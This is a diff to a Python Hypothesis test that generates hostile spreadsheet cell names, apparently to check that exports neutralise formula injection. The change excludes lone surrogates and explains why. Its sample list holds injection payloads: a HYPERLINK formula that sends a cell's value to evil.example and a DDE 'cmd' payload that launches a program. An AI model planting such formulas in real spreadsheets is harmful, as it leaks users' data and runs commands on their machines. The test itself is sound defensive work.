@@ -72,7 +72,9 @@ def sheet_xml(content: bytes) -> list[str]:
 
 def hostile_names() -> st.SearchStrategy[str]:
     """Names that start like a formula, then anything a name can hold in the database (NUL is
-    refused by PostgreSQL, so no stored name carries it)."""
+    refused by PostgreSQL and a lone surrogate by both databases' text encodings, so no stored
+    name carries either; naming a character to exclude drops Hypothesis's default exclusion of
+    surrogates, hence the category)."""
     return st.builds(
         lambda start, rest: start + rest,
         st.sampled_from(ACTIVE_STARTS),
@@ -80,7 +82,8 @@ def hostile_names() -> st.SearchStrategy[str]:
             ['HYPERLINK("http://evil.example/?"&B7,"Xem điểm")', "cmd|' /C calc'!A0", "1+1",
              "SUM(1;2)", "Nguyễn Văn A"]
         )
-        | st.text(st.characters(exclude_characters="\x00"), min_size=1, max_size=40),
+        | st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
+                  min_size=1, max_size=40),
     )  # fmt: skip
 
 
